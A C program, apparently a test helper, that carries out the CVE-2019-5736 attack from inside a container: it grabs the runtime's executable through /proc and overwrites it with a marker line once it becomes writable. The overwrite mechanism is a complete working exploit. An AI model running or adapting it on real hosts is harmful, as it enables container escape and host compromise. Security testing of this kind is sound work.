// overwriter SECONDS: what an attacker inside a container does while an administrator runs exec (CVE-2019-5736): opens the
// program of every process that appears, waits until it may be written, and writes. Prints "watching" when it begins,
// "held TARGET" for a runtime's program it got a descriptor of, "overwritten TARGET" or "refused ERRNO" for what came of it.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_PID 400

static int is_runtime(const char* target) {
  return strstr(target, "nucleus") != NULL || strstr(target, "runc") != NULL || strstr(target, "memfd") != NULL;
}

static void say(const char* what, const char* which) {
  printf("%s %s\n", what, which);
  fflush(stdout);
}

// Busy (ETXTBSY) while the program runs: an attacker waits with the descriptor in hand. 1 when it was overwritten.
static int overwrite(int fd, const char* target) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int wait = 0; wait < 400; ++wait) {
    const int writable = open(path, O_WRONLY | O_TRUNC);
    if (writable >= 0) {
      const ssize_t put = write(writable, "#!/bin/owned\n", 13);
      close(writable);
      say(put == 13 ? "overwritten" : "truncated", target);
      return 1;
    }
    if (errno != ETXTBSY) {
      say("refused", strerrorname_np(errno));
      return 0;
    }
    usleep(5000);
  }
  say("refused", "ETXTBSY");
  return 0;
}

// 1 when the attack succeeded.
static int attack(int pid) {
  char path[64];
  char target[512];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  const int fd = open(path, O_RDONLY);
  if (fd < 0) {
    return 0;
  }
  const ssize_t length = readlink(path, target, sizeof target - 1);
  target[length < 0 ? 0 : length] = '\0';
  int done = 0;
  if (is_runtime(target)) {
    say("held", target);
    done = overwrite(fd, target);
  }
  close(fd);
  return done;
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
  const double end = now() + (argc > 1 ? strtod(argv[1], NULL) : 5);
  say("watching", "");
  while (now() < end) {
    for (int pid = 1; pid < MAX_PID; ++pid) {
      if (pid != getpid() && attack(pid)) {
        return 0;
      }
    }
  }
  say("end", "");
  return 0;
}
